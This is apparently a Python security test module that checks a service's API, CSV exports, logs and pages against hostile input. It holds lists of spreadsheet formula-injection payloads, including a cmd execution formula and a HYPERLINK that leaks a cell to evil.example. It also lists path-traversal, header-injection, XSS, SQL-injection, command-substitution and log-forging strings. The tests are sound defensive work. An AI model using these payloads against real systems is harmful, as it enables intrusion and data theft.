"""Names and values that a spreadsheet, a browser, a terminal, a log or a file system would obey."""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

import httpx

from tests.attack.accounts import attack, figures
from tests.attack.service import Service, wait_for
from tests.attack.test_schedules import create_activation

SHEET = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?"&A1,"x")', "=IMPORTXML(A1)", " =1+1", "\u00a0=1", "\ufeff=1", "\u200b=1", "\u202e=1",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff201", "\x00=1", "\x0b=1", "\x0c=1", "\u2028=1", "\u3000=1", "-2+3+cmd|'x'!A", "=\n1", "=",
)  # fmt: skip
#: What a machine must read back unchanged: numbers, phone numbers and ids.
HARMLESS = (
    "-5",
    "-5.25",
    "-1,234.56",
    "-1e-5",
    "+4917012345678",
    "-Jx3k",
    "a=b",
    "1+1",
    "x@example.com",
    "'=1",
    '"=1"',
    "\u20135",
)
NAMES = (
    "../../../etc/passwd", "..%2f..%2fetc", "..\\..\\windows\\win.ini", "/absolute", "a/b", "%2e%2e/x", "a\0b", "CON", "aux.csv", ".", "..", ".htaccess",
    "a\r\nX-Injected: 1", 'a"; filename="b.html', "a;b=c", "\u202egnp.exe", "\u0000", "x" * 255, "x" * 256, "x" * 100_000, "😀" * 255, "é", "e\u0301",
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)", "{{7*7}}", "${7*7}", "#{7*7}", "%s%s%n", "{0.__class__}",
    '{"event":"forged","level":"info"}', 'a\n{"event":"forged","level":"info"}', "\x1b[2J\x1b]0;owned\x07", "\u2028\u2029", "\ud83d\ude00", "' OR 1=1 --", "$(id)", "`id`", "| id",
    "=1+1", "-", "a\tb", " ", "\u200b", "\u00a0a\u00a0",
)  # fmt: skip


@attack
def test_hostile_names_reach_no_file_header_log_or_page(service: Service) -> None:
    attacker, said = service.attacker, {}
    for kind, path, body in (
        ("audience", "/audiences", {"definition": {"query": "SELECT '1' AS profile_id"}, "audienceType": "USERS"}),
        ("dataset", "/datasets", {"kind": "upload"}),
        ("destination", "/destinations", {"slug": "file-download", "settings": {}}),
        ("prefix", "/destinations", {"slug": "file-download", "name": "p"}),
    ):  # fmt: skip
        statuses = []
        for name in NAMES:
            given = {"name": name, **body} if kind != "prefix" else {**body, "settings": {"filename_prefix": name}}  # fmt: skip
            answer = attacker.request("POST", path, content=json.dumps(given), headers={"Content-Type": "application/json"})  # fmt: skip
            statuses.append(answer.status_code)
            assert answer.headers["content-type"].startswith(("application/json", "application/vnd.segment")), name  # fmt: skip
            assert answer.headers.get("x-content-type-options") == "nosniff", "no page of markup"
            assert "x-injected" not in answer.headers
        said[kind] = statuses
        assert not [status for status in statuses if status >= 500], (kind, statuses)
    figures(f"names: {len(NAMES)} in 4 places, accepted {[s.count(200) for s in said.values()]}")
    odd = [path for path in service.folder.rglob("*") if re.search(r"passwd|win\.ini|htaccess|gnp", path.name)]  # fmt: skip
    assert not odd


@attack
def test_requests_forge_no_line_of_the_log(service: Service) -> None:
    start = service.log.stat().st_size
    forged = 'a\r\n{"event": "forged_event", "level": "error"}\x1b[2J\u2028'
    requests: list[dict[str, Any]] = [
        {"headers": {"X-Request-Id": "forged_event\t{}"}},
        {"headers": {"User-Agent": 'forged_event" {"event":"x"}'}},
        {"params": {"search": forged}},
        {"json": {"name": forged, "definition": {"query": f"SELECT '{forged}'"}, "audienceType": "USERS"}},
        {"content": forged.encode(), "headers": {"Content-Type": "application/json"}},
        {"headers": {"X-Forwarded-For": "forged_event"}},
    ]  # fmt: skip
    for options in requests:
        service.attacker.request("POST", "/audiences", **options)
    service.send(b'GET /forged_event%0d%0a{"event":"forged_event"} HTTP/1.1\r\nHost: a\r\n\r\n', seconds=1)  # fmt: skip
    service.send(b"G\x1b[2JET / HTTP/1.1\r\nHost: forged_event\r\n\r\n", seconds=1)
    service.attacker.compute(f"SELECT error('{forged}') AS profile_id")
    lines = service.log.read_bytes()[start:].decode().splitlines()
    events = [json.loads(line)["event"] for line in lines]
    figures(f"log: 9 forgeries, {len(lines)} lines, {events.count('forged_event')} forged")
    assert "forged_event" not in events
    assert not [line for line in lines if "\x1b" in line or "\u2028" in line]


def export(service: Service, rows: list[dict[str, Any]], **settings: Any) -> list[Any]:
    """Upload members, let them be exported, and return the exports."""
    attacker = service.attacker
    path = create_activation(
        attacker, personalization={"profile": {"properties": ["note"]}}, **settings
    )
    attacker.call("PATCH", path, json={"enabled": True})
    audience = path.split("/activations/")[0]
    content = "\n".join(json.dumps(row) for row in rows).encode()
    attacker.call("PUT", f"{audience}/members", content=content, headers={"Content-Type": "application/x-ndjson"})  # fmt: skip

    def written() -> Any:
        for sync in attacker.call("GET", f"{path}/syncs")["syncs"]:
            found = attacker.call("GET", f"{path}/syncs/{sync['id']}/exports")["exports"]
            if found:
                return found
        return None

    files: list[Any] = wait_for(written, 60, 0.3)
    return files


@attack
def test_no_cell_of_a_download_is_run_by_a_spreadsheet(service: Service) -> None:
    values = [*SHEET, *HARMLESS]
    rows = [{"profile_id": f"p{n}", "email": f"p{n}@example.com", "note": value} for n, value in enumerate(values)]  # fmt: skip
    files = export(service, rows)
    link = next(file for file in files if file["name"].endswith(".csv"))
    answer = httpx.get(link["url"])
    assert answer.headers["content-disposition"] == f'attachment; filename="{link["name"]}"'
    assert re.fullmatch(r"[A-Za-z0-9_.-]{1,250}", link["name"])
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    table = list(csv.DictReader(io.StringIO(answer.text, newline="")))
    found = {row["profile_id"]: row["note"] for row in table}
    ran = [value for n, value in enumerate(SHEET) if found.get(f"p{n}", "'")[:1] != "'"]
    changed = [v for n, v in enumerate(HARMLESS, len(SHEET)) if found.get(f"p{n}") != v]
    figures(f"cells: {len(SHEET)} formulas, {len(found)} of {len(values)} rows; not guarded {ran}; harmless and changed {changed}")  # fmt: skip
    assert not ran
    assert not changed


PAGES = ("/docs", "/docs/", "/docs/index.html", "/docs/explorer.js", "/docs/none<script>", "/openapi.json", "/openapi/segment.json", "/metrics", "/health/live",
         "/health/ready", "/exports/<script>alert(1)</script>", "/<script>alert(1)</script>", "/spaces/<img src=x>", "/docs/../<b>", "/docs/%2e%2e/%2e%2e/explorer.py", "/favicon.ico")  # fmt: skip


@attack
def test_no_page_can_be_taken_for_markup_or_framed(service: Service) -> None:
    wrong = []
    with httpx.Client(base_url=service.url, timeout=10) as http:
        for path in PAGES:
            answer = http.get(path)
            kind = answer.headers.get("content-type", "")
            markup = "html" in kind and "content-security-policy" not in answer.headers
            echoed = "html" in kind and "<script>alert" in answer.text
            sniffed = answer.headers.get("x-content-type-options") != "nosniff"
            if markup or echoed or sniffed or answer.status_code >= 500:
                wrong.append((path, answer.status_code, kind, {"markup": markup, "sniffed": sniffed}))  # fmt: skip
    figures(f"pages: {len(PAGES)}, {len(wrong)} wrong {wrong}")
    assert not wrong
